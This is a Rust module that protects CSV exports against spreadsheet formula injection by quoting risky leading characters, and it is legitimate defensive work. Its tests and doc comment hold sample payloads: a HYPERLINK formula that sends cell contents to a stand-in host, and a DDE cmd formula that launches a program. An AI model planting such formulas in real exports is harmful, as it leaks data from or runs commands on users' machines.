//! Cells that are safe to open in a spreadsheet (CSV formula injection, OWASP).
//!
//! Excel, LibreOffice and Google Sheets run a cell that begins with `=`, `+`, `-` or `@` (and
//! some of them one that begins with a tab or carriage return) as a formula, so a chat
//! message or a sender name such as `=HYPERLINK("http://…"&A1,"click")` would run when a
//! coach opens a client's table. Every CSV the tool writes passes its free-text columns
//! (message text, sender, names, titles, labels, paths) through [`spreadsheet_safe`], which
//! puts a `'` in front of such a cell: spreadsheets then show it as text. Numbers and
//! timestamps are never touched. `--raw-csv` turns this off for pandas/DuckDB users who
//! want the exact text.

use std::borrow::Cow;

/// True when a spreadsheet would read `cell` as a formula.
pub fn looks_like_formula(cell: &str) -> bool {
    matches!(
        cell.as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    )
}

/// `cell`, with a leading `'` when a spreadsheet would read it as a formula.
pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    if looks_like_formula(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// [`spreadsheet_safe`] when `neutralise` is set, the text unchanged otherwise.
pub fn free_text(cell: &str, neutralise: bool) -> String {
    if neutralise {
        spreadsheet_safe(cell).into_owned()
    } else {
        cell.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_quoted_and_plain_text_is_kept() {
        for payload in [
            "=HYPERLINK(\"http://x\"&A1,\"click\")",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(spreadsheet_safe(payload), format!("'{payload}"));
        }
        for plain in ["hello = world", "", "'quoted", "3 + 4", " =1"] {
            assert_eq!(spreadsheet_safe(plain), plain);
        }
        assert_eq!(free_text("=1", false), "=1");
        assert_eq!(free_text("=1", true), "'=1");
    }
}
